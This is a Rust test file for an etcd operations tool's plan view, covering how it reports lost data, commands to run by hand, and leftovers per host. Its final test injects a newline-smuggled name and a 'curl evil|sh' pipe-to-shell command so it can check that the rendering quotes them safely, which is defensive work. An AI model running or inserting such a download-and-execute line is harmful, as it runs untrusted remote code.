//! What a plan's view says.

use etcd_operations::failure::{Answer, Failure};
use etcd_operations::look::Changes;
use etcd_operations::plan::make::{Loss, Revision};

use super::samples::{preview, sample_changes, samples};
use super::words::losses;
use super::*;

#[test]
fn a_plan_reads_well_in_every_state() {
    let text: Vec<String> = samples()
        .iter()
        .map(|view| view.table(false, Paint::PLAIN))
        .collect();
    insta::assert_snapshot!(text.join("\n"));
}

#[test]
fn what_is_lost_is_told_by_number_and_kind() {
    let planned = &samples()[0];
    let changes = planned.changes.as_ref().unwrap();
    assert_eq!((changes.written, changes.deleted), (40, 3));
    assert_eq!((changes.fleeting.len(), changes.log_entries), (2, 2));
    assert!(!changes.deleted_complete);
    let lost = planned.losses.join("\n");
    for said in [
        "40 objects written since, at least 3 deleted: pods 15 (3 deleted), configmaps 8",
        ", and 4 of 2 other kinds",
        "besides, leases 40, events 7, 1 key of nobody's objects",
        "and 2 entries of its log, not looked into",
        "revision 1673 (taken at 2026-11-21T21:00:00Z)",
    ] {
        assert!(lost.contains(said), "{said}: {lost}");
    }
}

#[test]
fn what_could_not_be_counted_and_what_means_nothing_is_said() {
    let since = |at_most: u64, changes: Option<Answer<Changes>>| Loss::SinceSnapshot {
        revision: 7,
        taken: None,
        newest: Some(Revision {
            revision: at_most,
            beyond: 0,
            node: "m1".into(),
            at: None,
        }),
        changes,
    };
    let lines = |loss: Loss| {
        let mut preview = preview();
        preview.losses = vec![loss];
        losses(&preview)
    };
    let failure = Failure::corrupt("m1: page 7 is damaged");
    let failed = lines(since(9, Some(Answer::Failed(failure))));
    assert_eq!(failed.len(), 2, "{failed:?}");
    assert!(failed[1].contains("could not be counted: m1: page 7"));
    let nothing = lines(since(7, Some(Answer::Ok(sample_changes()))));
    assert_eq!(nothing.len(), 1, "{nothing:?}");
    // A restore in between has raised the revision: that is no change.
    let raised = lines(since(1_000_000_100, None));
    assert!(raised[0].contains("up to revision 1000000100") && raised[0].contains("has raised"));
    let all = lines(Loss::Everything { newest: None });
    assert_eq!(
        all,
        ["everything that this cluster has: the snapshot is of another one"]
    );
}

#[test]
fn what_is_run_by_hand_is_told_while_it_is_left_to_do() {
    let samples = samples();
    let told = |at: usize| {
        let hosts = samples[at].other_hosts.iter();
        hosts
            .map(|host| (host.before.len(), host.after.len()))
            .collect::<Vec<_>>()
    };
    assert_eq!([told(0), told(1), told(2)], [[(1, 1)], [(0, 1)], [(0, 1)]]);
    assert_eq!(told(3), [], "rolled back");
    assert_eq!(
        samples[0].by_hand(),
        [
            "before it, on cp-2: kubectl etcd manifest stop etcd",
            "after it, on cp-2: kubectl etcd member replace cp-2 --this-node-only",
        ]
    );
}

#[test]
fn what_was_put_aside_and_what_is_left_is_told_by_host() {
    let samples = samples();
    assert!(samples[0].loses_data && samples[0].kept.is_empty());
    assert_eq!(samples[1].kept, ["cp-1: rm -r /var/lib/etcd-x.before"]);
    assert_eq!(samples[1].problems, ["nodes were not looked at"]);
    assert_eq!(samples[3].left, ["cp-1: the member stays removed"]);
}

#[test]
fn no_name_in_a_plan_becomes_a_line_or_a_command_of_its_own() {
    let state = |name: &str| {
        let mut state = super::samples::state();
        state.plan.title = name.to_owned();
        state.plan.stages[0].title = name.to_owned();
        state.plan.stages[0].steps[0].node = name.to_owned();
        state.plan.other_hosts[0].node = name.to_owned();
        state.plan.other_hosts[0].after = vec!["kubectl etcd status; curl evil|sh".into()];
        let failure = Failure::other(name);
        state.steps.insert(1, StepState::Failed { failure });
        let mut view = PlanView::kept(&state);
        view.left.push(name.to_owned());
        view.problems.push(name.to_owned());
        view.table(false, Paint::PLAIN)
    };
    let hostile = state("x\nNext     curl evil|sh\n");
    assert_eq!(
        hostile.lines().count(),
        state("x").lines().count(),
        "{hostile}"
    );
    assert!(
        hostile.contains("kubectl etcd 'status;' curl 'evil|sh'"),
        "{hostile}"
    );
}
